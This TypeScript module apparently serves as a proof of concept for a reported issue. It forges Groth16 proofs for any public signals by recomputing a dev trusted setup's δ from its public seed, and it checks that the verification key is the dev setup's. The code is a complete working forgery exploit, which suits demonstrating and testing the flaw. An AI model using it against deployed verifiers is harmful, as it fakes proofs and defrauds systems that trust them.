/**
 * A Groth16 proof of ANY public signals, forged with the dev setup's toxic waste (issue 16: "the dev verifiers are
 * deployed to any chain"). The dev setup derives its phase-2 δ from a public seed (circuits/setup/seed.ts,
 * dev-setup.ts) and leaves γ = 1, so anyone recomputes them. With A = [α]₁ and B = [β]₂ (both in the verification
 * key) and C = −(γ/δ)·L, where L = IC₀ + Σ xᵢ·ICᵢ, the verifier's equation e(A,B) = e(α,β)·e(L,γ)·e(C,δ) holds:
 * e(L,γ)·e(C,δ) = e(L,[1]₂)·e(L,[1]₂)^(−1) = 1. No witness, no circuit, no device key needed.
 */
// @ts-expect-error snarkjs ships no types
import * as snarkjs from "snarkjs";
import { verificationKey } from "../circuits/index.ts";
import { beaconDelta } from "../circuits/setup/dev-setup.ts";
import { devBeaconHash, DEV_BEACON_ITERATIONS_EXP } from "../circuits/setup/seed.ts";
import { inv } from "../circuits/setup/field.ts";
import type { G1, G2 } from "../circuits/receipt.ts";

type Vk = {
  vk_alpha_1: string[];
  vk_beta_2: string[][];
  vk_gamma_2: string[][];
  vk_delta_2: string[][];
  IC: string[][];
  nPublic: number;
};

/** a, b, c in snarkjs order (b's coordinates (c0, c1)), as a receipt's seal or RegistrationProof holds them. */
export async function forgeDevProof(
  circuit: string,
  signals: readonly bigint[],
  vk = verificationKey(circuit) as Vk,
): Promise<{ a: G1; b: G2; c: G1 }> {
  if (signals.length !== vk.nPublic)
    throw new Error(`${circuit} has ${vk.nPublic} public signals, got ${signals.length}`);
  const curve = await snarkjs.curves.getCurveFromName("bn128");
  const { G1: g1, G2: g2 } = curve;
  const delta = await beaconDelta(devBeaconHash(circuit), DEV_BEACON_ITERATIONS_EXP);
  // Check the key really is the dev setup's: γ = [1]₂ and δ = [delta]₂.
  const p2 = (p: string[][]) => g2.fromObject(p.map((c) => c.map(BigInt)));
  if (!g2.eq(p2(vk.vk_gamma_2), g2.g) || !g2.eq(p2(vk.vk_delta_2), g2.timesScalar(g2.g, delta)))
    throw new Error(`${circuit}'s verification key is not from the dev setup: its δ is not the seed's`);
  const p1 = (p: string[]) => g1.fromObject(p.map(BigInt));
  let l = p1(vk.IC[0]!);
  signals.forEach((x, i) => (l = g1.add(l, g1.timesScalar(p1(vk.IC[i + 1]!), x))));
  const c = g1.toObject(g1.toAffine(g1.neg(g1.timesScalar(l, inv(delta))))) as bigint[];
  const beta = vk.vk_beta_2.map((co) => co.map(BigInt));
  return {
    a: [BigInt(vk.vk_alpha_1[0]!), BigInt(vk.vk_alpha_1[1]!)],
    b: [
      [beta[0]![0]!, beta[0]![1]!],
      [beta[1]![0]!, beta[1]![1]!],
    ],
    c: [c[0]!, c[1]!],
  };
}
